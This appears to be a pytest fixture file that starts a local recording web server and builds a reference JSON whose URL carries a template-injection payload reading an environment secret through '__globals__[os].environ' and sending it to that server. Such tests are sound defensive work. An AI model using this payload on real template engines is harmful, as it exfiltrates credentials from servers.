"""A web server that notes what is asked for, and a URL that leaks a secret to it."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

SECRET = "AKIA-do-not-send-me"


class Server:
    """A web server of this machine that notes who asks for what, and answers from `folder`."""

    def __init__(self, folder: Path) -> None:
        requests: list[str] = []

        class Noting(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *_: object) -> None:
                requests.append(self.requestline)

        self.requests = requests
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Noting, directory=str(folder)))
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    folder = tmp_path / "served"
    folder.mkdir()
    server = Server(folder)
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture
def reference(server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A URL whose reading sends an environment variable to the server."""
    monkeypatch.setenv("GATE_SECRET", SECRET)
    leak = server.url + "/leak?k={{u.__globals__[os].environ[GATE_SECRET]}}"
    refs = {"version": 1, "templates": {"u": "{{x}}"}, "refs": {"a.wav": [leak]}}
    (tmp_path / "served" / "leak.json").write_text(json.dumps(refs))
    return f"reference://a.wav::{server.url}/leak.json"
